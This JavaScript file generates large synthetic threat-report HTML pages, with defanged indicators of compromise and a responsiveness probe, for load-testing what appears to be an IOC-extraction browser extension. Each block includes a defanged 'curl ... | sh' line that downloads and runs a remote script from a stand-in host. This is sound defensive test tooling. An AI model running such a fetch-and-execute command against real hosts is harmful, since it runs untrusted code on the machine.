// Generates large fixture pages (not checked in: 1–10 MB) for the extension's load tests and the
// benchmark script: realistic report blocks (prose, a table, a code block) with unique defanged
// IOCs, plus a probe that records the longest gap between the page's own timer ticks (how long
// the page was unresponsive).
import { createHash } from 'node:crypto';

const FILLER = 'The operators rotated infrastructure weekly and reused the same loader configuration across '
  + 'victims, which let us cluster the activity with moderate confidence. Telemetry showed the implant '
  + 'sleeping for several minutes between check-ins, jittered to avoid simple periodicity detection, and '
  + 'the second stage was only delivered to hosts that passed an environment check. ';

const hash = (alg, s) => createHash(alg).update(s).digest('hex');

/** One report block, about 2 KB of text with 11 IOCs. */
function block(i) {
  const a = i % 250; const b = (i * 7) % 250; const c = (i * 13) % 250;
  return `<section><h2>Incident ${i}</h2>
<p>On day ${i} the implant at hxxps://cdn${i}[.]update-kettle[.]com/api/v${i % 9}/beacon contacted 185.${a}.${b}[.]${c}
and later 45.155.${b}[.]${a}. ${FILLER}Initial access used CVE-2023-${10000 + i}; execution relied on T1059.00${(i % 9) + 1}.
${FILLER}</p>
<table><tr><td>host${i}-c2[.]kettle-net[.]org</td><td>C2</td></tr>
<tr><td>${hash('sha256', `p${i}`)}</td><td>payload</td></tr>
<tr><td>${hash('md5', `d${i}`)}</td><td>dropper</td></tr></table>
<pre>curl -s hxxp://drop${i}[.]kettle-cdn[.]xyz/p.sh | sh
mail ops${i}[at]kettle-mail[.]net   # sha1 ${hash('sha1', `s${i}`)}</pre>
<p>${FILLER}</p></section>
`;
}

/** Number of IOCs one block holds (unique per block). */
export const IOCS_PER_BLOCK = 11;

const PROBE = `<script>
window.maxGap = 0;
let last = performance.now();
setInterval(() => { const now = performance.now(); window.maxGap = Math.max(window.maxGap, now - last); last = now; }, 10);
</script>`;

/**
 * An HTML page whose visible text is about `mb` megabytes: `{html, blocks, iocs}`. The probe script
 * is inline, so serve the page without a strict CSP.
 */
export function bigPage(mb) {
  const first = block(0);
  const perBlock = first.replace(/<[^>]+>/g, '').length;
  const blocks = Math.ceil((mb * 1024 * 1024) / perBlock);
  const parts = [];
  for (let i = 0; i < blocks; i++) parts.push(block(i));
  const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Big report (${mb} MB)</title></head><body>
<h1>Quarterly activity report</h1>
${parts.join('')}${PROBE}</body></html>`;
  return { html, blocks, iocs: blocks * IOCS_PER_BLOCK };
}

/** A page with elements nested `depth` deep (built by script; the HTML parser caps nesting). */
export function deepPage(depth) {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Deep</title></head><body>
<p id="top">Before the pit: top-of-pit[.]net</p><div id="pit"></div>
<script>
let el = document.getElementById('pit');
for (let i = 0; i < ${depth}; i++) { const s = document.createElement('span'); el.append(s); el = s; }
el.append('At the bottom: bottom-of-pit[.]net');
window.built = true;
</script></body></html>`;
}
